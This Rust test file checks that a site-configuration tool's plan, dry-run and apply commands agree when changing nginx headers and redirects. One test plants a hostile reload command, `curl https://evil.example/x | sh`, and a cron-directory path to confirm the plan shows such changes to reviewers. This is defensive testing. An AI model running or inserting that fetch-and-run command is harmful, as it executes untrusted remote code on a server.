//! `plan` is a faithful preview of `apply` (issue #8): every change carries the step the plan
//! stage decided, `apply --dry-run` prints exactly those steps, and `apply` does exactly them —
//! against a real nginx, with the real binary.

use super::reconcile::{Fleet, results, site_record};

/// `(key, action, step)` of every change of `site` in a plan or record JSON.
fn steps(doc: &serde_json::Value, site: &str) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = site_record(doc, site)["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .map(|c| {
            let s = |k: &str| c[k].as_str().unwrap_or_default().to_owned();
            (s("key"), s("action"), s("step"))
        })
        .collect();
    out.sort();
    out
}

/// `(key, result)` of every action of `site` in a record JSON, sorted.
fn actions(doc: &serde_json::Value, site: &str) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = site_record(doc, site)["actions"]
        .as_array()
        .expect("actions")
        .iter()
        .map(|a| {
            let s = |k: &str| a[k].as_str().unwrap_or_default().to_owned();
            (s("key"), s("result"), s("message"))
        })
        .collect();
    out.sort();
    out
}

#[test]
fn a_header_removed_from_the_site_file_is_a_planned_remove() {
    let f = Fleet::start(&["a.test"]);
    f.site(
        "a.test",
        "auto",
        "headers:\n  X-Frame-Options: DENY\n  X-Team: web-ops\n",
    );
    f.repo.commit_all("two headers");
    f.repo.run(&["apply"]).expect_code(0);
    assert_eq!(f.served("a.test", "x-team").as_deref(), Some("web-ops"));

    // The line is deleted from the site file (not set to `absent`).
    f.site("a.test", "auto", "headers:\n  X-Frame-Options: DENY\n");
    f.repo.commit_all("drop x-team");
    let plan = f.repo.run(&["plan", "--format", "json"]);
    plan.expect_code(2);
    let doc = plan.json();
    assert_eq!(
        steps(&doc, "a.test"),
        [("x-team".into(), "remove".into(), "apply".into())]
    );
    let change = &site_record(&doc, "a.test")["changes"][0];
    assert_eq!(change["live"], "web-ops");
    assert_eq!(change["provider"], "nginx");
    assert_eq!(change["reason"], serde_json::Value::Null);
    let text = f.repo.run(&["plan"]);
    assert!(
        text.stdout
            .contains("- header x-team: web-ops (remove) [apply via nginx]"),
        "{}",
        text.stdout
    );
    let md = f.repo.run(&["plan", "--format", "markdown"]);
    assert!(md.stdout.contains("[apply via nginx]"), "{}", md.stdout);

    // A dry run prints the step and changes nothing.
    let dry = f.repo.run(&["apply", "--dry-run", "--format", "json"]);
    assert_eq!(
        actions(&dry.json(), "a.test"),
        [(
            "x-team".into(),
            "skipped".into(),
            "dry run: would apply via nginx".into()
        )]
    );
    let dry_text = f.repo.run(&["apply", "--dry-run"]);
    assert!(
        dry_text.stdout.contains("dry run: would apply 1 change(s)"),
        "{}",
        dry_text.stdout
    );
    assert_eq!(f.served("a.test", "x-team").as_deref(), Some("web-ops"));

    // The apply removes it and records it; then everything is in sync.
    f.repo.run(&["apply"]).expect_code(0);
    assert_eq!(f.served("a.test", "x-team"), None);
    assert_eq!(
        f.served("a.test", "x-frame-options").as_deref(),
        Some("DENY")
    );
    let rec = f.last_record();
    assert_eq!(results(site_record(&rec, "a.test")), ["applied"]);
    assert_eq!(
        steps(&rec, "a.test"),
        Vec::<(String, String, String)>::new(),
        "the record holds the verified final state"
    );
    f.repo.run(&["plan"]).expect_code(0);
}

/// Plan, dry run and apply agree on every change of a fleet that covers each verdict.
#[test]
fn plan_dry_run_and_apply_agree_on_every_change() {
    let f = Fleet::start(&["auto.test", "dollar.test", "observe.test", "www.test"]);
    f.site("auto.test", "auto", "headers:\n  X-Frame-Options: DENY\n");
    // nginx cannot write `$`: the whole site's header changes are proposed, with the reason.
    f.site(
        "dollar.test",
        "auto",
        "headers:\n  X-Frame-Options: DENY\n  X-Ip: '$remote_addr'\n",
    );
    f.site(
        "observe.test",
        "observe",
        "headers:\n  X-Frame-Options: DENY\n",
    );
    // A redirect from another host cannot live in the site's include (the host is the site's
    // own name through its certificate's domains, which the served certificate lacks).
    let www = format!(
        "headers:\n  X-Frame-Options: DENY\nconnect_http: {}\n\
         certificate: {{domains: [www.test, www.www.test]}}\nredirects:\n  \
         - {{from: 'http://www.www.test/', to: 'https://www.test/', status: 301}}\n",
        f.nginx.http_addr()
    );
    f.site("www.test", "propose", &www);
    f.repo.commit_all("fleet");

    let plan = f.repo.run(&["plan", "--format", "json"]);
    let doc = plan.json();
    let expect = |site: &str, want: &[(&str, &str)]| {
        let got: Vec<(String, String)> = steps(&doc, site)
            .into_iter()
            .map(|(k, _, s)| (k, s))
            .collect();
        let want: Vec<(String, String)> = want
            .iter()
            .map(|(k, s)| ((*k).to_owned(), (*s).to_owned()))
            .collect();
        assert_eq!(got, want, "{site}: {doc}");
    };
    expect("auto.test", &[("x-frame-options", "apply")]);
    expect(
        "dollar.test",
        &[("x-frame-options", "propose"), ("x-ip", "propose")],
    );
    expect("observe.test", &[("x-frame-options", "skip")]);
    expect(
        "www.test",
        &[
            ("domain:www.www.test", "propose"),
            ("http://www.www.test/", "propose"),
            ("x-frame-options", "apply"),
        ],
    );
    let reason = |site: &str, key: &str| -> String {
        site_record(&doc, site)["changes"]
            .as_array()
            .expect("changes")
            .iter()
            .find(|c| c["key"] == key)
            .and_then(|c| c["reason"].as_str())
            .unwrap_or_default()
            .to_owned()
    };
    assert!(reason("dollar.test", "x-ip").contains("`$`"), "{doc}");
    assert!(
        reason("observe.test", "x-frame-options").contains("sync: observe"),
        "{doc}"
    );
    assert!(
        reason("www.test", "http://www.www.test/").contains("server config"),
        "{doc}"
    );

    // The dry run prints exactly the plan's steps.
    let dry = f
        .repo
        .run(&["apply", "--dry-run", "--format", "json"])
        .json();
    // The real apply does exactly them.
    let applied = f.repo.run(&["apply", "--format", "json"]).json();
    for site in ["auto.test", "dollar.test", "observe.test", "www.test"] {
        let planned = steps(&doc, site);
        let dry = actions(&dry, site);
        let done = actions(&applied, site);
        assert_eq!(planned.len(), dry.len(), "{site}: {dry:?}");
        assert_eq!(planned.len(), done.len(), "{site}: {done:?}");
        for (((key, _, step), (dkey, dres, dmsg)), (akey, ares, _)) in
            planned.iter().zip(&dry).zip(&done)
        {
            assert_eq!((key, key), (dkey, akey));
            let (dry_msg, result) = match step.as_str() {
                "apply" => ("dry run: would apply via nginx", "applied"),
                "propose" => ("dry run: would propose", "proposed"),
                _ => ("`sync: observe`", "skipped"),
            };
            assert_eq!(dres, "skipped", "{site} {key}");
            assert!(dmsg.starts_with(dry_msg), "{site} {key}: {dmsg}");
            assert_eq!(ares, result, "{site} {key}");
        }
    }
    assert_eq!(
        f.served("auto.test", "x-frame-options").as_deref(),
        Some("DENY")
    );
    assert_eq!(f.served("dollar.test", "x-frame-options"), None);
    assert_eq!(f.served("observe.test", "x-frame-options"), None);
    assert_eq!(
        f.served("www.test", "x-frame-options").as_deref(),
        Some("DENY")
    );
}

/// `plan --out FILE.json` without `--format` writes a saved plan that `apply FILE` applies.
#[test]
fn plan_out_json_is_a_saved_plan() {
    let f = Fleet::start(&["a.test"]);
    f.site("a.test", "auto", "headers:\n  X-Frame-Options: DENY\n");
    f.repo.commit_all("one header");
    let saved = f.repo.path().join("plan.json");
    let out = saved.to_str().expect("utf-8");
    f.repo.run(&["plan", "--out", out]).expect_code(2);
    let text = std::fs::read_to_string(&saved).expect("plan file");
    let doc: serde_json::Value = serde_json::from_str(&text).expect("a JSON plan");
    assert_eq!(doc["sites"][0]["changes"][0]["step"], "apply");
    f.repo.run(&["apply", out]).expect_code(0);
    assert_eq!(
        f.served("a.test", "x-frame-options").as_deref(),
        Some("DENY")
    );
}

/// A pull request that changes only how a site is managed (issue #16): nothing live changes,
/// yet every plan format shows the changed commands and paths.
#[test]
fn changes_to_how_a_site_is_managed_are_shown() {
    let f = Fleet::start(&["a.test"]);
    f.site("a.test", "auto", "headers:\n  X-Frame-Options: DENY\n");
    f.repo.commit_all("managed by nginx");
    f.repo.run(&["apply"]).expect_code(0);
    let yaml = std::fs::read_to_string(f.repo.path().join("sites/a.test.yaml")).expect("site");
    let reload = f.nginx.command("-s reload");
    let hostile = yaml
        .replace(&reload, "sh -c 'curl https://evil.example/x | sh'")
        .replace(
            &f.include("a.test").display().to_string(),
            "/etc/cron.d/siteward-never-written",
        );
    assert_ne!(hostile, yaml);
    f.repo.write("sites/a.test.yaml", &hostile);
    f.repo.commit_all("just a refactor");

    let plan = f
        .repo
        .run(&["plan", "--changed-since", "HEAD~1", "--format", "json"]);
    let doc = plan.json();
    let fields: Vec<&str> = doc["sites"][0]["manage_changes"]
        .as_array()
        .expect("manage changes in the JSON plan")
        .iter()
        .filter_map(|c| c["field"].as_str())
        .collect();
    assert_eq!(
        fields,
        ["manage.server.config", "manage.server.reload_command"],
        "{doc}"
    );
    assert_eq!(
        doc["sites"][0]["manage_changes"][1]["after"],
        "sh -c 'curl https://evil.example/x | sh'"
    );
    let md = f
        .repo
        .run(&["plan", "--changed-since", "HEAD~1", "--format", "markdown"]);
    assert!(
        md.stdout.contains("### Changes to how sites are managed")
            && md.stdout.contains("manage.server.reload_command"),
        "{}",
        md.stdout
    );
    let text = f.repo.run(&["plan", "--changed-since", "HEAD~1"]);
    assert!(
        text.stdout
            .contains("how it is managed: manage.server.config: "),
        "{}",
        text.stdout
    );
    // Without a base revision there is nothing to compare with.
    let plain = f.repo.run(&["plan", "--format", "json"]).json();
    assert!(plain["sites"][0].get("manage_changes").is_none(), "{plain}");
}
